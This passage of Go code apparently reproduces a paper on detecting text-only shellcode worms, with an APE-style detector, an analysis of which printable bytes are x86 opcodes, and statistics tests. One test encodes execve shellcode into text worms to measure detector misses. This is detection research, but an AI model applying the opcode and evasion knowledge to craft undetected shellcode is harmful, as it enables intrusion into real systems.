		w, err := encoder.Encode(shellcode.Execve().Code, encoder.Options{Seed: uint64(i), SledLen: 64})
		if err != nil {
			t.Fatal(err)
		}
		v, err := d.Scan(w.Bytes)
		if err != nil {
			t.Fatal(err)
		}
		if !v.Malicious {
			missed++
		}
	}
	if missed == 0 {
		t.Error("APE caught every text worm; the paper found it ineffective on text")
	}
	t.Logf("APE missed %d/%d text worms at threshold %d", missed, worms, d.Threshold())
}

func TestTrainValidation(t *testing.T) {
	d, err := New()
	if err != nil {
		t.Fatal(err)
	}
	if err := d.Train(nil, 1); err == nil {
		t.Error("empty training should fail")
	}
	if err := d.Train(benign(t, 1, 2), -1); err == nil {
		t.Error("negative margin should fail")
	}
	if err := d.TrainQuantile(nil, 0.9); err == nil {
		t.Error("empty quantile training should fail")
	}
	if err := d.TrainQuantile(benign(t, 1, 2), 0); err == nil {
		t.Error("q=0 should fail")
	}
	if err := d.TrainQuantile(benign(t, 1, 2), 1.5); err == nil {
		t.Error("q>1 should fail")
	}
}

func TestTrainQuantile(t *testing.T) {
	d, err := New(WithSeed(5))
	if err != nil {
		t.Fatal(err)
	}
	data := benign(t, 9, 10)
	if err := d.TrainQuantile(data, 0.5); err != nil {
		t.Fatal(err)
	}
	median := d.Threshold()
	if err := d.TrainQuantile(data, 1.0); err != nil {
		t.Fatal(err)
	}
	if d.Threshold() < median {
		t.Errorf("max quantile threshold %d below median %d", d.Threshold(), median)
	}
}

func TestSamplingBoundsWork(t *testing.T) {
	// Sampled MEL is a lower bound on the full-scan MEL.
	dSampled, err := New(WithSamples(8), WithSeed(6))
	if err != nil {
		t.Fatal(err)
	}
	payload := benign(t, 10, 1)[0]
	vSampled, err := dSampled.Scan(payload)
	if err != nil {
		t.Fatal(err)
	}
	dFull, err := New(WithSamples(len(payload) + 1))
	if err != nil {
		t.Fatal(err)
	}
	vFull, err := dFull.Scan(payload)
	if err != nil {
		t.Fatal(err)
	}
	if vSampled.MEL > vFull.MEL {
		t.Errorf("sampled MEL %d exceeds full MEL %d", vSampled.MEL, vFull.MEL)
	}
	if vSampled.Positions != 8 {
		t.Errorf("positions = %d", vSampled.Positions)
	}
}

// Package ape implements the Abstract Payload Execution worm detector of
// Toth & Kruegel (RAID 2002) as the paper's Section 6 baseline. APE
// differs from the DAWN-style detector on exactly the axes the paper
// lists: it pseudo-executes from random sample positions rather than
// every offset, its invalid-instruction definition is narrow (incorrect
// opcode or illegal memory address — no I/O rule, no segment rule, no
// register tracking), and its MEL threshold is obtained experimentally
// from training data instead of from a model.
package ape

import (
	"errors"
	"fmt"
	"sort"

	"repro/internal/mel"
	"repro/internal/stats"
)

// Default configuration values.
const (
	// DefaultSamples is the number of random start positions per payload.
	DefaultSamples = 64
	// DefaultThreshold is APE's published default MEL threshold when no
	// training data is supplied (Toth & Kruegel used 35).
	DefaultThreshold = 35
)

// Detector is an APE-style sampled MEL detector.
type Detector struct {
	engine    *mel.Engine
	samples   int
	threshold int
	rng       *stats.RNG
	trained   bool
}

// Option configures the detector.
type Option func(*Detector) error

// WithSamples sets how many random positions are pseudo-executed.
func WithSamples(n int) Option {
	return func(d *Detector) error {
		if n <= 0 {
			return errors.New("ape: samples must be positive")
		}
		d.samples = n
		return nil
	}
}

// WithThreshold sets the experimental MEL threshold directly.
func WithThreshold(t int) Option {
	return func(d *Detector) error {
		if t <= 0 {
			return errors.New("ape: threshold must be positive")
		}
		d.threshold = t
		d.trained = true
		return nil
	}
}

// WithSeed seeds the position sampler.
func WithSeed(seed uint64) Option {
	return func(d *Detector) error {
		d.rng = stats.NewRNG(seed)
		return nil
	}
}

// New builds an APE detector with the narrow APE rule set and all-paths
// exploration (APE follows both branch arms).
func New(opts ...Option) (*Detector, error) {
	d := &Detector{
		engine:    mel.NewEngineMode(mel.APE(), mel.ModeAllPaths),
		samples:   DefaultSamples,
		threshold: DefaultThreshold,
		rng:       stats.NewRNG(0x0A9E),
	}
	for _, opt := range opts {
		if err := opt(d); err != nil {
			return nil, err
		}
	}
	return d, nil
}

// Train sets the threshold experimentally: the maximum MEL observed on
// benign training payloads plus a safety margin — the procedure the
// paper criticizes as potentially biased by the training set.
func (d *Detector) Train(benign [][]byte, margin int) error {
	if len(benign) == 0 {
		return errors.New("ape: no training data")
	}
	if margin < 0 {
		return errors.New("ape: negative margin")
	}
	best := 0
	for i, b := range benign {
		m, err := d.sampleMEL(b)
		if err != nil {
			return fmt.Errorf("ape: training payload %d: %w", i, err)
		}
		if m > best {
			best = m
		}
	}
	d.threshold = best + margin
	d.trained = true
	return nil
}

// TrainQuantile sets the threshold at a quantile of the benign MEL
// distribution (e.g. 0.99) instead of the maximum.
func (d *Detector) TrainQuantile(benign [][]byte, q float64) error {
	if len(benign) == 0 {
		return errors.New("ape: no training data")
	}
	if q <= 0 || q > 1 {
		return errors.New("ape: quantile out of (0, 1]")
	}
	mels := make([]int, 0, len(benign))
	for i, b := range benign {
		m, err := d.sampleMEL(b)
		if err != nil {
			return fmt.Errorf("ape: training payload %d: %w", i, err)
		}
		mels = append(mels, m)
	}
	sort.Ints(mels)
	idx := int(q*float64(len(mels))) - 1
	if idx < 0 {
		idx = 0
	}
	if idx >= len(mels) {
		idx = len(mels) - 1
	}
	d.threshold = mels[idx]
	d.trained = true
	return nil
}

// Threshold returns the operating threshold.
func (d *Detector) Threshold() int { return d.threshold }

// Trained reports whether the threshold came from data (vs the default).
func (d *Detector) Trained() bool { return d.trained }

// Verdict is an APE scan result.
type Verdict struct {
	// Malicious is true when the sampled MEL exceeds the threshold.
	Malicious bool
	// MEL is the maximum over the sampled positions.
	MEL int
	// Positions is how many start offsets were pseudo-executed.
	Positions int
}

// Scan samples random start positions and pseudo-executes from each.
func (d *Detector) Scan(payload []byte) (Verdict, error) {
	m, err := d.sampleMEL(payload)
	if err != nil {
		return Verdict{}, err
	}
	pos := d.samples
	if pos > len(payload) {
		pos = len(payload)
	}
	return Verdict{Malicious: m > d.threshold, MEL: m, Positions: pos}, nil
}

// sampleMEL runs the engine from sampled offsets only.
func (d *Detector) sampleMEL(payload []byte) (int, error) {
	if len(payload) == 0 {
		return 0, errors.New("ape: empty payload")
	}
	// Choose distinct random offsets; when the payload is small, use all.
	if d.samples >= len(payload) {
		res, err := d.engine.Scan(payload)
		if err != nil {
			return 0, err
		}
		return res.MEL, nil
	}
	best := 0
	for i := 0; i < d.samples; i++ {
		off := d.rng.Intn(len(payload))
		m, err := d.engine.ScanFrom(payload, off)
		if err != nil {
			return 0, err
		}
		if m > best {
			best = m
		}
	}
	return best, nil
}

// Package textins captures the structural properties of the text
// (keyboard-enterable) byte domain 0x20–0x7E that the paper's analysis
// rests on: which text bytes are IA-32 opcodes, prefixes, privileged I/O
// instructions, or segment overrides; and the XOR-closure structure of
// the text domain (Figure 4) that makes single-key XOR decrypters
// impossible in pure text.
package textins

import (
	"repro/internal/x86"
)

// Text-domain boundaries (inclusive), per the paper: Hex 0x20 through 0x7E.
const (
	TextMin = 0x20
	TextMax = 0x7E
	// TextSize is the number of distinct text bytes (95).
	TextSize = TextMax - TextMin + 1
)

// IsText reports whether b is a keyboard-enterable text byte.
func IsText(b byte) bool { return b >= TextMin && b <= TextMax }

// IsTextStream reports whether every byte of p is text.
func IsTextStream(p []byte) bool {
	for _, b := range p {
		if !IsText(b) {
			return false
		}
	}
	return true
}

// IsAlphanumeric reports whether b is in [0-9A-Za-z], the stricter domain
// rix's alphanumeric shellcode targets.
func IsAlphanumeric(b byte) bool {
	return b >= '0' && b <= '9' || b >= 'A' && b <= 'Z' || b >= 'a' && b <= 'z'
}

// IOChars are the text bytes that decode to privileged I/O instructions:
// 'l' = insb, 'm' = insd, 'n' = outsb, 'o' = outsd. Their prevalence in
// English text is the paper's primary invalidator of benign streams.
var IOChars = []byte{'l', 'm', 'n', 'o'}

// IsIOChar reports whether b is one of the privileged I/O opcodes.
func IsIOChar(b byte) bool { return b >= 0x6C && b <= 0x6F }

// PrefixChars are the text bytes that are instruction prefixes: the six
// segment overrides plus the operand- and address-size toggles. All eight
// IA-32 prefix bytes that fall in the text range.
var PrefixChars = []byte{0x26, 0x2E, 0x36, 0x3E, 0x64, 0x65, 0x66, 0x67}

// IsPrefixChar reports whether b is a text instruction prefix
// ('&' es, '.' cs, '6' ss, '>' ds, 'd' fs, 'e' gs, 'f' opsize, 'g' addrsize).
func IsPrefixChar(b byte) bool {
	switch b {
	case 0x26, 0x2E, 0x36, 0x3E, 0x64, 0x65, 0x66, 0x67:
		return true
	}
	return false
}

// SegOverrideChars maps text prefix bytes to the segment they select.
var SegOverrideChars = map[byte]x86.Seg{
	0x26: x86.SegES,
	0x2E: x86.SegCS,
	0x36: x86.SegSS,
	0x3E: x86.SegDS,
	0x64: x86.SegFS,
	0x65: x86.SegGS,
}

// WrongSegDefault is the set of segment overrides the detector treats as
// faulting when applied to a memory access in user space: CS is never
// writable and ES/FS/GS are unmapped or zero-based in unexpected ways on
// the paper's Linux target. SS and DS behave like the default flat
// segments and are excluded.
var WrongSegDefault = map[x86.Seg]bool{
	x86.SegCS: true,
	x86.SegES: true,
	x86.SegFS: true,
	x86.SegGS: true,
}

// OpcodeRole classifies what a text byte is when encountered as the first
// non-prefix byte of an instruction.
type OpcodeRole int

// Roles of a text byte in the opcode position.
const (
	// RoleALU covers register/memory/stack data manipulation
	// (sub, xor, and, cmp, inc, dec, push, pop, popa, imul, ...).
	RoleALU OpcodeRole = iota + 1
	// RoleJump covers the conditional jumps jo..jng (0x70-0x7E).
	RoleJump
	// RoleIO covers insb/insd/outsb/outsd (0x6C-0x6F).
	RoleIO
	// RoleMisc covers aaa, daa, das, bound, arpl.
	RoleMisc
	// RolePrefix covers the eight prefix bytes.
	RolePrefix
)

// RoleOf classifies a text byte's opcode role. The boolean is false for
// non-text bytes.
func RoleOf(b byte) (OpcodeRole, bool) {
	if !IsText(b) {
		return 0, false
	}
	switch {
	case IsPrefixChar(b):
		return RolePrefix, true
	case IsIOChar(b):
		return RoleIO, true
	case b >= 0x70 && b <= 0x7E:
		return RoleJump, true
	case b == 0x27 || b == 0x2F || b == 0x37 || b == 0x3F || b == 0x62 || b == 0x63:
		// daa, das, aaa, aas, bound, arpl.
		return RoleMisc, true
	default:
		return RoleALU, true
	}
}

// TextOpcodes returns every text byte together with the operation it
// decodes to as a first opcode byte (using a text ModRM/operand tail), a
// machine-checked version of the paper's Section 2.1 instruction list.
func TextOpcodes() map[byte]x86.Op {
	out := make(map[byte]x86.Op, TextSize)
	tail := []byte{'A', 'A', 'A', 'A', 'A', 'A', 'A', 'A'}
	for b := byte(TextMin); b <= TextMax; b++ {
		if IsPrefixChar(b) {
			continue // prefixes are not stand-alone instructions
		}
		code := append([]byte{b}, tail...)
		inst, err := x86.Decode(code, 0)
		if err != nil {
			continue
		}
		out[b] = inst.Op
	}
	return out
}

package textins

// This file reproduces the Figure 4 analysis: the XOR-closure structure
// of the text domain. The 95-byte text domain splits into three nearly
// equal terciles (0x20–0x3F, 0x40–0x5F, 0x60–0x7E); XOR-ing two bytes
// from the SAME tercile lands in the non-text control range 0x00–0x1F,
// which is why no constant XOR key can decrypt text to text.

// Tercile identifies one of the three text-domain partitions of Figure 4.
type Tercile int

// Text-domain terciles. TercileNone marks a byte outside the text domain.
const (
	TercileNone Tercile = iota
	TercileLow          // 0x20–0x3F: punctuation and digits
	TercileMid          // 0x40–0x5F: upper-case letters
	TercileHigh         // 0x60–0x7E: lower-case letters
)

// TercileOf returns the partition of b, or TercileNone if b is not text.
func TercileOf(b byte) Tercile {
	switch {
	case b >= 0x20 && b <= 0x3F:
		return TercileLow
	case b >= 0x40 && b <= 0x5F:
		return TercileMid
	case b >= 0x60 && b <= 0x7E:
		return TercileHigh
	default:
		return TercileNone
	}
}

// XorStaysText reports whether a XOR b is still a text byte.
func XorStaysText(a, b byte) bool { return IsText(a ^ b) }

// XorPartitionCell summarizes where XOR-ing bytes from two terciles lands.
type XorPartitionCell struct {
	// Text counts pairs whose XOR is text; NonText counts the rest.
	Text, NonText int
}

// XorPartitionTable computes the 3×3 Figure-4 table: for every ordered
// tercile pair (i, j), how many byte pairs (a ∈ i, b ∈ j) XOR to a text
// byte versus a non-text byte. The diagonal is all-non-text.
func XorPartitionTable() [3][3]XorPartitionCell {
	var table [3][3]XorPartitionCell
	for a := byte(TextMin); a <= TextMax; a++ {
		for b := byte(TextMin); b <= TextMax; b++ {
			i := int(TercileOf(a)) - 1
			j := int(TercileOf(b)) - 1
			if XorStaysText(a, b) {
				table[i][j].Text++
			} else {
				table[i][j].NonText++
			}
		}
	}
	return table
}

// SameTercileXorAlwaysControl verifies the paper's claim directly: for
// every pair within the same tercile, a XOR b lies in 0x00–0x1F. It
// returns the first counter-example, or ok=true if the claim holds.
func SameTercileXorAlwaysControl() (a, b byte, ok bool) {
	for x := byte(TextMin); x <= TextMax; x++ {
		for y := byte(TextMin); y <= TextMax; y++ {
			if TercileOf(x) != TercileOf(y) {
				continue
			}
			if v := x ^ y; v > 0x1F {
				return x, y, false
			}
		}
	}
	return 0, 0, true
}

// FindUniversalXorKeys returns every non-trivial key k (k != 0, since
// XOR with zero performs no decryption) such that k XOR t is text for ALL
// text bytes t — the keys a single-key text-to-text XOR decrypter would
// need. The paper argues the set is empty; this enumerates all 255
// candidates and proves it.
func FindUniversalXorKeys() []byte {
	var keys []byte
	for k := 1; k < 256; k++ {
		all := true
		for t := byte(TextMin); t <= TextMax; t++ {
			if !IsText(byte(k) ^ t) {
				all = false
				break
			}
		}
		if all {
			keys = append(keys, byte(k))
		}
	}
	return keys
}

// XorKeyCoverage returns, for each candidate key, the fraction of text
// bytes t for which key XOR t remains text. Useful for quantifying how
// far any key falls short of universality.
func XorKeyCoverage() [256]float64 {
	var cov [256]float64
	for k := 0; k < 256; k++ {
		hits := 0
		for t := byte(TextMin); t <= TextMax; t++ {
			if IsText(byte(k) ^ t) {
				hits++
			}
		}
		cov[k] = float64(hits) / float64(TextSize)
	}
	return cov
}

// BestXorKey returns the key with maximal coverage and that coverage.
func BestXorKey() (byte, float64) {
	cov := XorKeyCoverage()
	best, bestCov := 0, 0.0
	for k, c := range cov {
		if c > bestCov {
			best, bestCov = k, c
		}
	}
	return byte(best), bestCov
}

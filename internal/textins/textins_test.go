package textins

import (
	"testing"
	"testing/quick"

	"repro/internal/x86"
)

func TestTextBoundaries(t *testing.T) {
	if IsText(0x1F) || IsText(0x7F) {
		t.Error("bytes outside 0x20-0x7E must not be text")
	}
	if !IsText(0x20) || !IsText(0x7E) {
		t.Error("0x20 and 0x7E are text")
	}
	count := 0
	for b := 0; b < 256; b++ {
		if IsText(byte(b)) {
			count++
		}
	}
	if count != TextSize || TextSize != 95 {
		t.Errorf("text domain size = %d, want 95", count)
	}
}

func TestIsTextStream(t *testing.T) {
	if !IsTextStream([]byte("GET /index.html HTTP/1.1")) {
		t.Error("plain ASCII request should be text")
	}
	if IsTextStream([]byte{0x41, 0x00}) {
		t.Error("NUL byte is not text")
	}
	if !IsTextStream(nil) {
		t.Error("empty stream is vacuously text")
	}
}

func TestIsAlphanumeric(t *testing.T) {
	for _, b := range []byte("azAZ09") {
		if !IsAlphanumeric(b) {
			t.Errorf("%c should be alphanumeric", b)
		}
	}
	for _, b := range []byte(" /@[`{") {
		if IsAlphanumeric(b) {
			t.Errorf("%c should not be alphanumeric", b)
		}
	}
}

func TestIOChars(t *testing.T) {
	want := map[byte]x86.Op{'l': x86.OpINS, 'm': x86.OpINS, 'n': x86.OpOUTS, 'o': x86.OpOUTS}
	for b, op := range want {
		if !IsIOChar(b) {
			t.Errorf("%c should be an IO char", b)
		}
		inst, err := x86.Decode([]byte{b}, 0)
		if err != nil {
			t.Fatal(err)
		}
		if inst.Op != op || !inst.Flags.Has(x86.FlagIO) {
			t.Errorf("%c decodes to %v (flags %v)", b, inst.Op, inst.Flags)
		}
	}
	if IsIOChar('k') || IsIOChar('p') {
		t.Error("k and p are not IO chars")
	}
}

func TestPrefixCharsMatchDecoder(t *testing.T) {
	// Every byte we call a prefix must be consumed as one by the decoder,
	// and no other text byte may be.
	tail := []byte{0x90, 0x41, 0x41, 0x41, 0x41, 0x41, 0x41, 0x41, 0x41}
	for b := byte(TextMin); b <= TextMax; b++ {
		inst, err := x86.Decode(append([]byte{b}, tail...), 0)
		if err != nil {
			t.Fatalf("decode %#x: %v", b, err)
		}
		isPrefix := inst.Prefixes.Count == 1
		if isPrefix != IsPrefixChar(b) {
			t.Errorf("byte %#x (%c): decoder prefix=%v, IsPrefixChar=%v",
				b, b, isPrefix, IsPrefixChar(b))
		}
	}
	if len(PrefixChars) != 8 {
		t.Errorf("prefix char count = %d, want 8", len(PrefixChars))
	}
}

func TestSegOverrideChars(t *testing.T) {
	for b, seg := range SegOverrideChars {
		inst, err := x86.Decode([]byte{b, 0x8B, 0x01}, 0)
		if err != nil {
			t.Fatal(err)
		}
		if inst.Prefixes.Seg != seg {
			t.Errorf("prefix %#x: decoder says %v, map says %v", b, inst.Prefixes.Seg, seg)
		}
	}
}

func TestWrongSegDefault(t *testing.T) {
	if !WrongSegDefault[x86.SegCS] || !WrongSegDefault[x86.SegGS] {
		t.Error("CS and GS should be wrong segments")
	}
	if WrongSegDefault[x86.SegDS] || WrongSegDefault[x86.SegSS] {
		t.Error("DS and SS are the flat defaults, not wrong")
	}
}

func TestRoleOf(t *testing.T) {
	cases := []struct {
		b    byte
		want OpcodeRole
	}{
		{'-', RoleALU},  // sub eax, imm
		{'1', RoleALU},  // xor
		{'P', RoleALU},  // push eax
		{'X', RoleALU},  // pop eax
		{'h', RoleALU},  // push imm32
		{'p', RoleJump}, // jo
		{'~', RoleJump}, // jng
		{'l', RoleIO},
		{'o', RoleIO},
		{'\'', RoleALU}, // 0x27 is daa... no: 0x27 is RoleMisc
	}
	// Fix the last case properly below; table-driven with corrections:
	cases[len(cases)-1] = struct {
		b    byte
		want OpcodeRole
	}{0x27, RoleMisc}
	for _, c := range cases {
		got, ok := RoleOf(c.b)
		if !ok || got != c.want {
			t.Errorf("RoleOf(%#x) = %v,%v want %v", c.b, got, ok, c.want)
		}
	}
	for _, b := range PrefixChars {
		if got, ok := RoleOf(b); !ok || got != RolePrefix {
			t.Errorf("RoleOf(prefix %#x) = %v,%v", b, got, ok)
		}
	}
	if _, ok := RoleOf(0x1F); ok {
		t.Error("non-text byte should have no role")
	}
	for _, b := range []byte{0x2F, 0x37, 0x3F, 0x62, 0x63} {
		if got, _ := RoleOf(b); got != RoleMisc {
			t.Errorf("RoleOf(%#x) = %v, want misc", b, got)
		}
	}
}

func TestEveryTextByteHasRole(t *testing.T) {
	for b := byte(TextMin); b <= TextMax; b++ {
		if _, ok := RoleOf(b); !ok {
			t.Errorf("text byte %#x has no role", b)
		}
	}
}

func TestTextOpcodesListMatchesPaper(t *testing.T) {
	ops := TextOpcodes()
	// The paper's Section 2.1 list: sub, xor, and, inc, imul, cmp, dec,
	// push, pop, popa, jumps, I/O, aaa, daa, das, bound, arpl.
	wantPresent := []x86.Op{
		x86.OpSUB, x86.OpXOR, x86.OpAND, x86.OpINC, x86.OpDEC, x86.OpIMUL,
		x86.OpCMP, x86.OpPUSH, x86.OpPOP, x86.OpPOPA, x86.OpJcc,
		x86.OpINS, x86.OpOUTS, x86.OpAAA, x86.OpDAA, x86.OpDAS,
		x86.OpBOUND, x86.OpARPL,
	}
	present := make(map[x86.Op]bool, len(ops))
	for _, op := range ops {
		present[op] = true
	}
	for _, op := range wantPresent {
		if !present[op] {
			t.Errorf("text opcode set missing %v", op)
		}
	}
	// Ops that require non-text opcodes must be absent: system calls,
	// unconditional jmp, call, mov, int.
	for _, op := range []x86.Op{x86.OpINT, x86.OpCALL, x86.OpMOV, x86.OpJMP, x86.OpRET} {
		if present[op] {
			t.Errorf("text opcode set should not contain %v", op)
		}
	}
	// Prefixes excluded, so 95 - 8 = 87 entries.
	if len(ops) != 87 {
		t.Errorf("text opcode count = %d, want 87", len(ops))
	}
}

func TestTercileOf(t *testing.T) {
	cases := []struct {
		b    byte
		want Tercile
	}{
		{0x20, TercileLow}, {0x3F, TercileLow},
		{0x40, TercileMid}, {0x5F, TercileMid},
		{0x60, TercileHigh}, {0x7E, TercileHigh},
		{0x1F, TercileNone}, {0x7F, TercileNone}, {0xFF, TercileNone},
	}
	for _, c := range cases {
		if got := TercileOf(c.b); got != c.want {
			t.Errorf("TercileOf(%#x) = %v, want %v", c.b, got, c.want)
		}
	}
}

// TestFigure4SameTercile verifies the paper's central Figure 4 claim.
func TestFigure4SameTercile(t *testing.T) {
	a, b, ok := SameTercileXorAlwaysControl()
	if !ok {
		t.Fatalf("counter-example: %#x ^ %#x = %#x is text", a, b, a^b)
	}
}

func TestXorPartitionTable(t *testing.T) {
	table := XorPartitionTable()
	// Diagonal cells must be entirely non-text (Figure 4's "+" cells map
	// to the non-text region).
	for i := 0; i < 3; i++ {
		if table[i][i].Text != 0 {
			t.Errorf("diagonal cell %d has %d text results", i, table[i][i].Text)
		}
	}
	// Off-diagonal cells contain text results (low^mid can be text, etc.).
	for i := 0; i < 3; i++ {
		for j := 0; j < 3; j++ {
			if i != j && table[i][j].Text == 0 {
				t.Errorf("cell (%d,%d) has no text results; cross-tercile xor should produce text", i, j)
			}
		}
	}
	// Totals cover all 95*95 pairs.
	total := 0
	for i := 0; i < 3; i++ {
		for j := 0; j < 3; j++ {
			total += table[i][j].Text + table[i][j].NonText
		}
	}
	if total != TextSize*TextSize {
		t.Errorf("table covers %d pairs, want %d", total, TextSize*TextSize)
	}
	// Symmetry: xor is commutative.
	for i := 0; i < 3; i++ {
		for j := 0; j < 3; j++ {
			if table[i][j] != table[j][i] {
				t.Errorf("table not symmetric at (%d,%d)", i, j)
			}
		}
	}
}

// TestNoUniversalXorKey proves the paper's claim that no single XOR key
// maps all text to text.
func TestNoUniversalXorKey(t *testing.T) {
	if keys := FindUniversalXorKeys(); len(keys) != 0 {
		t.Fatalf("found universal keys % x; the paper (and arithmetic) say none exist", keys)
	}
}

func TestXorKeyCoverage(t *testing.T) {
	cov := XorKeyCoverage()
	if cov[0] != 1.0 {
		t.Errorf("key 0 coverage = %v, want 1 (identity)", cov[0])
	}
	// Key 0 maps text to itself, but a *useful* decrypter key must be
	// non-zero; verify all non-zero keys fall short.
	for k := 1; k < 256; k++ {
		if cov[k] >= 1.0 {
			t.Errorf("non-zero key %#x has full coverage", k)
		}
	}
}

func TestBestXorKey(t *testing.T) {
	key, cov := BestXorKey()
	if key != 0 || cov != 1.0 {
		t.Errorf("best key = %#x cov=%v, want identity key 0", key, cov)
	}
}

func TestXorStaysTextProperty(t *testing.T) {
	f := func(a, b byte) bool {
		// Consistency with direct computation.
		return XorStaysText(a, b) == IsText(a^b)
	}
	if err := quick.Check(f, nil); err != nil {
		t.Fatal(err)
	}
}

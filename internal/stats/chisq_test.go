package stats

import (
	"math"
	"testing"
)

// TestPaperContingencyTable reproduces the Section 3.3 independence test:
// the paper's observed 2x2 table of instruction-validity pairs must yield
// expected counts close to the paper's (8922/2835/2835/900) and a p-value
// around 0.1 — not significant, so independence is not rejected.
func TestPaperContingencyTable(t *testing.T) {
	tbl, err := NewContingencyTable([][]float64{
		{8960, 2797},
		{2797, 938},
	})
	if err != nil {
		t.Fatal(err)
	}
	res, err := tbl.ChiSquareIndependence()
	if err != nil {
		t.Fatal(err)
	}
	wantExpected := [][]float64{{8922, 2835}, {2835, 900}}
	for i := range wantExpected {
		for j := range wantExpected[i] {
			if math.Abs(res.Expected[i][j]-wantExpected[i][j]) > 1.0 {
				t.Errorf("expected[%d][%d] = %.1f, paper reports %.0f",
					i, j, res.Expected[i][j], wantExpected[i][j])
			}
		}
	}
	if res.DF != 1 {
		t.Errorf("df = %d, want 1", res.DF)
	}
	// The paper reports p-value 0.1 (one decimal). Accept a small band.
	if res.PValue < 0.05 || res.PValue > 0.2 {
		t.Errorf("p-value = %.4f, paper reports ~0.1", res.PValue)
	}
	if !res.IndependentAt(0.05) {
		t.Error("independence should not be rejected at alpha=0.05")
	}
}

func TestChiSquareDetectsDependence(t *testing.T) {
	tbl, err := NewContingencyTable([][]float64{
		{100, 0},
		{0, 100},
	})
	if err != nil {
		t.Fatal(err)
	}
	res, err := tbl.ChiSquareIndependence()
	if err != nil {
		t.Fatal(err)
	}
	if res.PValue > 1e-10 {
		t.Errorf("perfectly dependent table got p=%v, want ~0", res.PValue)
	}
	if res.IndependentAt(0.05) {
		t.Error("dependence should be detected")
	}
}

func TestChiSquareIndependentTable(t *testing.T) {
	// A perfectly independent table: counts proportional to row x col sums.
	tbl, err := NewContingencyTable([][]float64{
		{40, 60},
		{80, 120},
	})
	if err != nil {
		t.Fatal(err)
	}
	res, err := tbl.ChiSquareIndependence()
	if err != nil {
		t.Fatal(err)
	}
	if res.Statistic > 1e-9 {
		t.Errorf("statistic = %v, want 0 for exactly independent table", res.Statistic)
	}
	if !almostEqual(res.PValue, 1, 1e-6) {
		t.Errorf("p-value = %v, want 1", res.PValue)
	}
}

func TestContingencyValidation(t *testing.T) {
	if _, err := NewContingencyTable([][]float64{{1, 2}}); err == nil {
		t.Error("single-row table should be rejected")
	}
	if _, err := NewContingencyTable([][]float64{{1}, {2}}); err == nil {
		t.Error("single-column table should be rejected")
	}
	if _, err := NewContingencyTable([][]float64{{1, 2}, {3}}); err == nil {
		t.Error("ragged table should be rejected")
	}
	if _, err := NewContingencyTable([][]float64{{1, 2}, {-1, 3}}); err == nil {
		t.Error("negative count should be rejected")
	}
}

func TestChiSquareEmptyTable(t *testing.T) {
	tbl, err := NewContingencyTable([][]float64{{0, 0}, {0, 0}})
	if err != nil {
		t.Fatal(err)
	}
	if _, err := tbl.ChiSquareIndependence(); err == nil {
		t.Error("empty table should error")
	}
}

func TestChiSquareZeroExpected(t *testing.T) {
	tbl, err := NewContingencyTable([][]float64{{0, 0}, {5, 5}})
	if err != nil {
		t.Fatal(err)
	}
	if _, err := tbl.ChiSquareIndependence(); err == nil {
		t.Error("zero expected frequency should error")
	}
}

func TestLargerTable(t *testing.T) {
	tbl, err := NewContingencyTable([][]float64{
		{10, 20, 30},
		{20, 40, 60},
		{15, 30, 45},
	})
	if err != nil {
		t.Fatal(err)
	}
	res, err := tbl.ChiSquareIndependence()
	if err != nil {
		t.Fatal(err)
	}
	if res.DF != 4 {
		t.Errorf("3x3 table df = %d, want 4", res.DF)
	}
	if res.Statistic > 1e-9 {
		t.Errorf("proportional 3x3 table statistic = %v, want 0", res.Statistic)
	}
}

func TestGoodnessOfFit(t *testing.T) {
	obs := []float64{48, 52}
	exp := []float64{50, 50}
	res, err := ChiSquareGoodnessOfFit(obs, exp, 0)
	if err != nil {
		t.Fatal(err)
	}
	want := (4.0 + 4.0) / 50.0
	if !almostEqual(res.Statistic, want, 1e-12) {
		t.Errorf("statistic = %v, want %v", res.Statistic, want)
	}
	if res.PValue < 0.5 {
		t.Errorf("fair-ish coin rejected: p=%v", res.PValue)
	}
}

func TestGoodnessOfFitErrors(t *testing.T) {
	if _, err := ChiSquareGoodnessOfFit([]float64{1}, []float64{1}, 0); err == nil {
		t.Error("single category should error")
	}
	if _, err := ChiSquareGoodnessOfFit([]float64{1, 2}, []float64{1}, 0); err == nil {
		t.Error("length mismatch should error")
	}
	if _, err := ChiSquareGoodnessOfFit([]float64{1, 2}, []float64{0, 3}, 0); err == nil {
		t.Error("zero expected should error")
	}
	if _, err := ChiSquareGoodnessOfFit([]float64{1, 2}, []float64{1, 2}, 1); err == nil {
		t.Error("df <= 0 should error")
	}
}

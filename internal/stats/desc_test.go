package stats

import (
	"math"
	"sort"
	"testing"
	"testing/quick"
)

func TestMeanVariance(t *testing.T) {
	xs := []float64{2, 4, 4, 4, 5, 5, 7, 9}
	m, err := Mean(xs)
	if err != nil {
		t.Fatal(err)
	}
	if m != 5 {
		t.Errorf("mean = %v, want 5", m)
	}
	v, err := Variance(xs)
	if err != nil {
		t.Fatal(err)
	}
	if !almostEqual(v, 32.0/7.0, 1e-12) {
		t.Errorf("variance = %v, want %v", v, 32.0/7.0)
	}
	sd, err := StdDev(xs)
	if err != nil {
		t.Fatal(err)
	}
	if !almostEqual(sd, math.Sqrt(32.0/7.0), 1e-12) {
		t.Errorf("stddev = %v", sd)
	}
}

func TestEmptyErrors(t *testing.T) {
	if _, err := Mean(nil); err == nil {
		t.Error("Mean(nil) should error")
	}
	if _, err := Variance([]float64{1}); err == nil {
		t.Error("Variance of one sample should error")
	}
	if _, err := Quantile(nil, 0.5); err == nil {
		t.Error("Quantile(nil) should error")
	}
	if _, _, err := MinMax(nil); err == nil {
		t.Error("MinMax(nil) should error")
	}
	if _, err := Summarize(nil); err == nil {
		t.Error("Summarize(nil) should error")
	}
}

func TestQuantile(t *testing.T) {
	xs := []float64{1, 2, 3, 4, 5}
	cases := []struct {
		q, want float64
	}{
		{0, 1}, {1, 5}, {0.5, 3}, {0.25, 2}, {0.125, 1.5},
	}
	for _, c := range cases {
		got, err := Quantile(xs, c.q)
		if err != nil {
			t.Fatal(err)
		}
		if !almostEqual(got, c.want, 1e-12) {
			t.Errorf("Quantile(%v) = %v, want %v", c.q, got, c.want)
		}
	}
	if _, err := Quantile(xs, 1.5); err == nil {
		t.Error("q > 1 should error")
	}
	if v, err := Quantile([]float64{7}, 0.9); err != nil || v != 7 {
		t.Errorf("single-sample quantile = %v, %v", v, err)
	}
}

func TestQuantileDoesNotMutate(t *testing.T) {
	xs := []float64{3, 1, 2}
	if _, err := Quantile(xs, 0.5); err != nil {
		t.Fatal(err)
	}
	if xs[0] != 3 || xs[1] != 1 || xs[2] != 2 {
		t.Errorf("Quantile mutated input: %v", xs)
	}
}

func TestMinMax(t *testing.T) {
